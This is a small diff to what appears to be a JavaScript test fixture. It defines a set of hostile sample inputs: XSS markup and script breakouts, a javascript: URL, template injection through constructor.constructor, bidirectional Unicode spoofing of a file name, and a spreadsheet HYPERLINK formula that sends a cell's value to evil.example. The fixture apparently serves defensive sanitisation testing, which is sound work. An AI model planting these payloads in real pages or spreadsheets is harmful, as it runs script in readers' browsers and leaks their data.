@@ -19,7 +19,7 @@ const hostile = {
   markup: '<img src=x onerror="alert(1)"><b>bold</b></td></table><h1>heading</h1>',
   script: '</script><script>alert(1)</script><svg onload=alert(1)>',
   address: 'javascript:alert(1)',
-  template: '{{constructor.constructor("alert(1)")()}} ${alert(1)} &lt;b&gt;',
+  template: '{{constructor.constructor("alert(1)")()}} $\u007Balert(1)} &lt;b&gt;',
   direction: '\u202Egnp.exe \u2066\u2067evil\u2069 \u05D0\u05D1\u05D2 \u200F\u061C',
   formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
   control: 'null \u0001 \u007F \uFEFF \u2028 line',
